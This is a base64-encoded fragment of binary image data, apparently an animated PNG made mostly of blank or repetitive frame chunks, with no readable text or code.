AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAADgbk+0AAT8nj5sAAAAaZmNUTAAAABEAAA+fAAAPnwAAAAAAAAAAAAEAZAAAivovNAAAI0dmZEFUAAAAEnic7dFBDQAgEMAwwL/nwwU81ipYsj2LmDm/C3jP9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9KALrs8hPM+66k4AAAAaZmNUTAAAABMAAA+fAAAPnwAAAAAAAAAAAAEAZAAAZ2z83QAAB7BmZEFUAAAAFHic7cExAQAAAMKg9U9tDB+gAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA